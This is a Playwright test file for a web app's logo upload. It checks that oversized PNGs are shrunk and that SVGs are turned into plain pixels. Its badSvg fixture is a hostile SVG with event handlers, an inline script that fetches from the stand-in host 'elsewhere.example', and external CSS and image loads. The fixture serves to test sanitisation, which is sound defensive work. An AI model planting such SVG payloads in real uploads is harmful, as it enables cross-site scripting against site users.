import { randomFillSync } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { expect, test } from '../support/app-fixture';

test.use({ community: 'empty' });

/** A PNG of noise, which no program makes smaller: 3 bytes a pixel. */
function noisePng(width: number, height: number): Buffer {
  const chunk = (kind: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const rows = randomFillSync(Buffer.alloc((width * 3 + 1) * height));
  // The first byte of each row says how it is packed: not at all.
  for (let row = 0; row < height; row += 1) rows[row * (width * 3 + 1)] = 0;
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows, { level: 0 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A drawing four times as wide as high, with everything in it that a drawing should not have. */
const badSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 100" onload="top.hurt = 1">
  <script>top.hurt = 2; fetch('https://elsewhere.example/script')</script>
  <style>@import url(https://elsewhere.example/a.css); rect { fill: #ff0000; stroke: url(https://elsewhere.example/b#c) }</style>
  <rect width="400" height="100" onclick="top.hurt = 3"/>
  <image href="https://elsewhere.example/c.png" width="9" height="9"/>
  <image xlink:href="https://elsewhere.example/d.png" width="9" height="9"/>
  <foreignObject width="9" height="9"><div xmlns="http://www.w3.org/1999/xhtml"><img src="https://elsewhere.example/e.png" onerror="top.hurt = 4"/></div></foreignObject>
</svg>`;

/** Where the logo is shown in the settings. */
const logo = (page: Page) => page.getByRole('img', { name: 'Logotipo' });

async function choose(page: Page, name: string, mimeType: string, buffer: Buffer): Promise<void> {
  // Playwright hands over no more than 50 MB in one piece.
  await page.getByLabel('Elegir imagen', { exact: true }).first().setInputFiles({ name, mimeType, buffer });
}

/** What is stored: its type, its pixels, and the colour in its middle. */
async function stored(page: Page) {
  return logo(page).evaluate(async (image: HTMLImageElement) => {
    const response = await fetch(image.src);
    const blob = await response.blob();
    const bitmap = await createImageBitmap(blob);
    const context = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d');
    context?.drawImage(bitmap, 0, 0);
    const colour = context?.getImageData(bitmap.width / 2, bitmap.height / 2, 1, 1).data ?? [];
    const { width, height } = bitmap;
    return { type: blob.type, bytes: blob.size, text: await blob.text(), width, height, colour: [...colour] };
  });
}

test('a logo of 40 MB is made smaller in its own proportions; what is none is refused, and the one before stays', async ({
  app,
}) => {
  const { page } = app;
  await app.visit('/settings');
  const huge = noisePng(5300, 2650);
  expect(huge.length).toBeGreaterThan(40 * 1024 * 1024);
  await choose(page, 'logo.png', 'image/png', huge);
  await expect(logo(page)).toBeVisible();
  const kept = await stored(page);
  expect(kept.type).toBe('image/png');
  expect(kept.bytes).toBeLessThan(4 * 1024 * 1024);
  expect(kept.width / kept.height).toBeCloseTo(2, 2);
  expect(kept.width).toBeGreaterThanOrEqual(800);
  const address = await logo(page).getAttribute('src');
  for (const [name, type] of [
    ['logo.png', 'image/png'],
    ['logo.svg', 'image/svg+xml'],
  ] as const) {
    await choose(page, name, type, randomFillSync(Buffer.alloc(4 * 1024 * 1024)));
    await expect(page.getByRole('alert')).toContainText('no se puede leer como imagen');
    expect(await logo(page).getAttribute('src')).toBe(address);
  }
});

test('of an SVG with a script only what is seen is kept, as pixels, in its own proportions', async ({
  app,
}) => {
  const { page } = app;
  await app.visit('/settings');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await choose(page, 'logo.svg', 'image/svg+xml', Buffer.from(badSvg));
  await expect(logo(page)).toBeVisible();
  const kept = await stored(page);
  expect(kept).toMatchObject({ type: 'image/png', width: 1600, height: 400, colour: [255, 0, 0, 255] });
  expect(kept.text).not.toMatch(/script|elsewhere/u);
  expect(asked.filter((address) => address.includes('elsewhere'))).toEqual([]);
  expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
});
